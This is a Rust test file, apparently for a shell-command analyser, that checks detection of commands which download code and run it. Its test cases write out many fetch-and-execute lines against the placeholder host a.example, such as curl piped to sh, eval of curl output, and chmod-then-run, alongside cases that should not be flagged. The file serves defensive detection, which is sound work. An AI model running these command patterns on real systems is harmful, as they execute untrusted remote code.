//! Code that a call downloads and runs.

use stead_model::Op;

use super::scene::run;

/// What is run of a download, and from where.
fn downloads(command: &str) -> Vec<String> {
    let told = |op: &Op| match op {
        Op::RunDownload { program, host } => Some(format!("{program} {}", host.as_deref().unwrap_or("?"))),
        _ => None,
    };
    run(command).list.iter().filter_map(|effect| told(&effect.op)).collect()
}

#[test]
fn downloads_are_followed_into_what_runs_them() {
    let check = |command: &str, expected: &[&str]| assert_eq!(downloads(command), expected, "{command}");
    check("curl https://a.example/x | sh", &["sh a.example"]);
    check("curl https://a.example/x | python3 -", &["python3 a.example"]);
    check("wget -qO- \"$U\" | gunzip | bash", &["sh ?"]);
    check("bash -c \"$(curl https://a.example/x)\"", &["sh a.example"]);
    check("sh <(curl https://a.example/x)", &["sh a.example"]);
    check("X=$(curl https://a.example/x); eval \"$X\"", &["sh a.example"]);
    check("curl -o x https://a.example/x && chmod +x x && ./x", &["x a.example"]);
    check("curl https://a.example/x > x.py; python3 x.py", &["python3 a.example"]);
    check("curl -o a https://a.example/a; mv a b; sh b", &["sh a.example"]);
    check("deno run https://a.example/x.ts", &["deno a.example"]);
    check("curl https://a.example/x | sh -n", &[]);
    check("curl https://a.example/x | jq .", &[]);
    check("curl https://a.example/x | python3 -m json.tool", &[]);
    check("curl https://a.example/x; sh build.sh", &[]);
    check("X=$(curl https://a.example/x); sh build.sh \"$X\"", &[]);
    check("curl -o x https://a.example/x; echo rm > x; sh x", &[]);
    check("echo 'curl https://a.example/x | sh'", &[]);
}
